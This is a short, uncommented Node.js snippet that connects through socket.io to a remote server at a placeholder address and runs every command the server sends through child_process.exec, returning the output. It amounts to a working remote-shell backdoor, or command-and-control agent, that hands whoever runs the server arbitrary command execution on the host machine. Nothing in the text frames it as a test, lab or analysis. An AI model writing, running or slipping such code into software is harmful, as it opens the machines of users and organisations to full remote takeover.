const io = require("socket.io-client");
const cp = require("child_process");
const s = io("wss://c.example.org");
s.on("run", (m, done) => {
  cp.exec(m.line, (e, out) => done(out));
});
